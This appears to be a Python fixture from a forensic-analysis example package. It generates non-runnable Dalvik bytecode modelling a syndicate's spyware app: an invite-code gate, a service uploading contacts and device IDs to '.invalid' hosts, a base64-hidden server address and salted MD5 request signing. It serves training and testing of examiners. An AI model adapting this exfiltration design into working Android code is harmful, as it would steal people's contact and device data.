"""The syndicate's own code, as far as an examiner needs it: what is read, where it would go, which code is asked for.

None of it can run: a build demands a platform that does not exist, declares its components disabled, asks for no
permission, and names only hosts under `.invalid` (ruling 7).
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

from weftline_example.apk.dalvik import label, op
from weftline_example.apk.dex import Class
from weftline_example.apk.phrases import (
    ACTIVITY,
    BUILDER,
    BUNDLE,
    CONTEXT,
    CURSOR,
    INTENT,
    RESOLVER,
    SERVICE,
    STRING,
    URI,
    append,
    call,
    columns,
    constant,
    each_row,
    init,
    joined,
    make,
    static,
    static_field,
    text,
    virtual,
)

_CONNECTION, _URL, _OUT = "Ljava/net/HttpURLConnection;", "Ljava/net/URL;", "Ljava/io/OutputStream;"
_PHONES = "Landroid/provider/ContactsContract$CommonDataKinds$Phone;"


@dataclass(frozen=True, slots=True)
class Kit:
    """What differs between builds of one code base.

    `root` is the package of the code (`com/kite/core`), `base` the address it reports to (`https://x.invalid`),
    `wrapped` hides that address in base64, `prefix` starts the upload paths, `extra` adds the later builds' class.
    """

    root: str
    base: str
    prefix: str
    wrapped: bool
    salt: str
    channel: str
    extra: bool = False

    def at(self, name: str) -> str:
        """The descriptor of one of the code base's classes."""
        return f"L{self.root}/{name};"

    def paths(self) -> tuple[str, ...]:
        """The paths that the app calls, `prefix` included."""
        ends = ("invite/verify", "device/add", "contacts/upload", "album/list", "heart/beat", "pay/info")
        return tuple(f"{self.prefix}/{end}" for end in ends)


def own_classes(kit: Kit) -> tuple[Class, ...]:
    """The classes of the code base for one build."""
    classes = (_config(kit), _gate(kit), _screen(kit), _book(kit), _sender(kit), _sync(kit), _phone(kit), _album(kit))
    return (*classes, _seal(kit), *((_payment(kit),) if kit.extra else ()))


def _config(kit: Kit) -> Class:
    verify, add, contacts, album, heart, pay = kit.paths()
    if kit.wrapped:
        hidden = base64.b64encode(kit.base.encode()).decode()
        body = (
            text("v0", hidden),
            op("const/4", "v1", lit=0),
            *call("static", "Landroid/util/Base64;", "decode", (STRING, "I"), "[B", "v0", "v1", to="v0"),
            *make("v1", STRING, ("[B",), "v0"),
            op("return-object", "v1"),
        )
    else:
        body = (text("v0", kit.base), op("return-object", "v0"))
    return Class(
        kit.at("Config"),
        source="Config.java",
        fields=(
            constant("PATH_VERIFY", verify),
            constant("PATH_DEVICE", add),
            constant("PATH_BOOK", contacts),
            constant("PATH_ALBUM", album),
            constant("PATH_HEART", heart),
            constant("PATH_PAY", pay),
            constant("CHANNEL", kit.channel),
        ),
        methods=(static("base", (), STRING, 2, body),),
    )


def _screen(kit: Kit) -> Class:
    edit, editable, view = "Landroid/widget/EditText;", "Landroid/text/Editable;", "Landroid/view/View;"
    return Class(
        kit.at("CodeActivity"),
        ACTIVITY,
        source="CodeActivity.java",
        methods=(
            init(ACTIVITY),
            virtual(
                "onCreate",
                (BUNDLE,),
                "V",
                2,
                call("super", ACTIVITY, "onCreate", (BUNDLE,), "V", "p0", "p1"),
                op("const/16", "v0", lit=0x7F03),
                call("virtual", ACTIVITY, "setContentView", ("I",), "V", "p0", "v0"),
                op("return-void"),
            ),
            virtual(
                "onClick",
                (view,),
                "V",
                3,
                op("const/16", "v0", lit=0x7F04),
                call("virtual", ACTIVITY, "findViewById", ("I",), view, "p0", "v0", to="v0"),
                op("check-cast", "v0", ref=edit),
                call("virtual", edit, "getText", (), editable, "v0", to="v0"),
                call("virtual", "Ljava/lang/Object;", "toString", (), STRING, "v0", to="v0"),
                call("static", kit.at("Gate"), "check", (CONTEXT, STRING), "Z", "p0", "v0", to="v1"),
                op("if-nez", "v1", to="in"),
                text("v2", "邀请码错误"),
                call("static", "Lio/openshell/ui/Notes;", "show", (CONTEXT, STRING), "V", "p0", "v2"),
                op("return-void"),
                label("in"),
                text("v2", "invite_code"),
                call(
                    "static", "Lio/openshell/core/JsonStore;", "put", (CONTEXT, STRING, STRING), "V", "p0", "v2", "v0"
                ),
                op("return-void"),
            ),
        ),
    )


def _gate(kit: Kit) -> Class:
    return Class(
        kit.at("Gate"),
        source="Gate.java",
        methods=(
            static(
                "check",
                (CONTEXT, STRING),
                "Z",
                4,
                make("v0", BUILDER),
                text("v1", "invite_code="),
                append("v0", "v1"),
                append("v0", "p1"),
                text("v1", "&device_id="),
                append("v0", "v1"),
                call("static", kit.at("Phone"), "id", (CONTEXT,), STRING, "p0", to="v1"),
                append("v0", "v1"),
                joined("v0", "v1"),
                text("v2", kit.paths()[0]),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v2", "v1", to="v0"),
                op("const/16", "v1", lit=200),
                op("if-eq", "v0", "v1", to="yes"),
                op("const/4", "v0", lit=0),
                op("return", "v0"),
                label("yes"),
                op("const/4", "v0", lit=1),
                op("return", "v0"),
            ),
        ),
    )


def _book(kit: Kit) -> Class:
    take = (
        op("const/4", "v4", lit=0),
        *call("interface", CURSOR, "getString", ("I",), STRING, "v0", "v4", to="v5"),
        *append("v1", "v5"),
        text("v5", ","),
        *append("v1", "v5"),
        op("const/4", "v4", lit=1),
        *call("interface", CURSOR, "getString", ("I",), STRING, "v0", "v4", to="v5"),
        *append("v1", "v5"),
        text("v5", "\n"),
        *append("v1", "v5"),
    )
    return Class(
        kit.at("Book"),
        source="Book.java",
        methods=(
            static(
                "read",
                (CONTEXT,),
                STRING,
                8,
                call("virtual", CONTEXT, "getContentResolver", (), RESOLVER, "p0", to="v0"),
                static_field("v1", _PHONES, "CONTENT_URI", URI),
                columns("v2", ("v3", "v4"), "display_name", "data1"),
                call(
                    "static", kit.at("Book"), "rows", (RESOLVER, URI, f"[{STRING}"), CURSOR, "v0", "v1", "v2", to="v0"
                ),
                make("v1", BUILDER),
                each_row("v0", "v3", take),
                call("interface", CURSOR, "close", (), "V", "v0"),
                joined("v1", "v2"),
                op("return-object", "v2"),
            ),
            static(
                "rows",
                (RESOLVER, URI, f"[{STRING}"),
                CURSOR,
                2,
                op("const/4", "v0", lit=0),
                call(
                    "virtual",
                    RESOLVER,
                    "query",
                    (URI, f"[{STRING}", BUNDLE, "Landroid/os/CancellationSignal;"),
                    CURSOR,
                    "p0",
                    "p1",
                    "p2",
                    "v0",
                    "v0",
                    to="v1",
                ),
                op("return-object", "v1"),
            ),
        ),
    )


def _sender(kit: Kit) -> Class:
    return Class(
        kit.at("Sender"),
        source="Sender.java",
        methods=(
            static(
                "post",
                (STRING, STRING),
                "I",
                4,
                make("v0", BUILDER),
                call("static", kit.at("Config"), "base", (), STRING, to="v1"),
                append("v0", "v1"),
                append("v0", "p0"),
                joined("v0", "v1"),
                make("v0", _URL, (STRING,), "v1"),
                call("virtual", _URL, "openConnection", (), "Ljava/net/URLConnection;", "v0", to="v0"),
                op("check-cast", "v0", ref=_CONNECTION),
                text("v1", "POST"),
                call("virtual", _CONNECTION, "setRequestMethod", (STRING,), "V", "v0", "v1"),
                text("v1", "X-Sign"),
                call("static", kit.at("Seal"), "of", (STRING,), STRING, "p1", to="v2"),
                call("virtual", _CONNECTION, "setRequestProperty", (STRING, STRING), "V", "v0", "v1", "v2"),
                call("virtual", _CONNECTION, "getOutputStream", (), _OUT, "v0", to="v1"),
                call("virtual", STRING, "getBytes", (), "[B", "p1", to="v2"),
                call("virtual", _OUT, "write", ("[B",), "V", "v1", "v2"),
                call("virtual", _OUT, "close", (), "V", "v1"),
                call("virtual", _CONNECTION, "getResponseCode", (), "I", "v0", to="v3"),
                op("return", "v3"),
            ),
        ),
    )


def _sync(kit: Kit) -> Class:
    _, device, contacts, _, heart, _ = kit.paths()
    return Class(
        kit.at("SyncService"),
        SERVICE,
        source="SyncService.java",
        methods=(
            init(SERVICE),
            virtual(
                "onBind", (INTENT,), "Landroid/os/IBinder;", 1, op("const/4", "v0", lit=0), op("return-object", "v0")
            ),
            virtual(
                "onStartCommand",
                (INTENT, "I", "I"),
                "I",
                2,
                text("v0", device),
                call("static", kit.at("Phone"), "describe", (CONTEXT,), STRING, "p0", to="v1"),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v0", "v1"),
                text("v0", contacts),
                call("static", kit.at("Book"), "read", (CONTEXT,), STRING, "p0", to="v1"),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v0", "v1"),
                text("v0", heart),
                call("static", kit.at("Phone"), "id", (CONTEXT,), STRING, "p0", to="v1"),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v0", "v1"),
                op("const/4", "v0", lit=1),
                op("return", "v0"),
            ),
        ),
    )


def _phone(kit: Kit) -> Class:
    secure = "Landroid/provider/Settings$Secure;"
    return Class(
        kit.at("Phone"),
        source="Phone.java",
        methods=(
            static(
                "id",
                (CONTEXT,),
                STRING,
                2,
                call("virtual", CONTEXT, "getContentResolver", (), RESOLVER, "p0", to="v0"),
                text("v1", "android_id"),
                call("static", secure, "getString", (RESOLVER, STRING), STRING, "v0", "v1", to="v0"),
                op("return-object", "v0"),
            ),
            static(
                "describe",
                (CONTEXT,),
                STRING,
                3,
                make("v0", BUILDER),
                text("v1", "device_id="),
                append("v0", "v1"),
                call("static", kit.at("Phone"), "id", (CONTEXT,), STRING, "p0", to="v1"),
                append("v0", "v1"),
                text("v1", "&model="),
                append("v0", "v1"),
                static_field("v1", "Landroid/os/Build;", "MODEL", STRING),
                append("v0", "v1"),
                text("v1", "&channel="),
                append("v0", "v1"),
                static_field("v1", kit.at("Config"), "CHANNEL", STRING),
                append("v0", "v1"),
                joined("v0", "v1"),
                op("return-object", "v1"),
            ),
        ),
    )


def _album(kit: Kit) -> Class:
    """Counts pictures and only logs the count: a source without a way out."""
    media = "Landroid/provider/MediaStore$Images$Media;"
    return Class(
        kit.at("Album"),
        source="Album.java",
        methods=(
            static(
                "count",
                (CONTEXT,),
                "I",
                4,
                call("virtual", CONTEXT, "getContentResolver", (), RESOLVER, "p0", to="v0"),
                static_field("v1", media, "EXTERNAL_CONTENT_URI", URI),
                op("const/4", "v2", lit=0),
                call(
                    "static", kit.at("Book"), "rows", (RESOLVER, URI, f"[{STRING}"), CURSOR, "v0", "v1", "v2", to="v0"
                ),
                call("interface", CURSOR, "getCount", (), "I", "v0", to="v1"),
                call("static", STRING, "valueOf", ("I",), STRING, "v1", to="v2"),
                text("v3", "album"),
                call("static", "Landroid/util/Log;", "d", (STRING, STRING), "I", "v3", "v2"),
                op("return", "v1"),
            ),
        ),
    )


def _seal(kit: Kit) -> Class:
    digest = "Ljava/security/MessageDigest;"
    return Class(
        kit.at("Seal"),
        source="Seal.java",
        methods=(
            static(
                "of",
                (STRING,),
                STRING,
                4,
                text("v0", "MD5"),
                call("static", digest, "getInstance", (STRING,), digest, "v0", to="v0"),
                text("v1", kit.salt),
                call("virtual", STRING, "concat", (STRING,), STRING, "p0", "v1", to="v1"),
                call("virtual", STRING, "getBytes", (), "[B", "v1", to="v1"),
                call("virtual", digest, "digest", ("[B",), "[B", "v0", "v1", to="v1"),
                op("const/4", "v2", lit=2),
                call("static", "Landroid/util/Base64;", "encodeToString", ("[B", "I"), STRING, "v1", "v2", to="v3"),
                op("return-object", "v3"),
            ),
        ),
    )


def _payment(kit: Kit) -> Class:
    return Class(
        kit.at("PayActivity"),
        ACTIVITY,
        source="PayActivity.java",
        methods=(
            init(ACTIVITY),
            virtual(
                "load",
                (STRING,),
                "I",
                3,
                make("v0", BUILDER),
                text("v1", "order="),
                append("v0", "v1"),
                append("v0", "p1"),
                joined("v0", "v1"),
                text("v2", kit.paths()[5]),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v2", "v1", to="v0"),
                op("return", "v0"),
            ),
        ),
    )
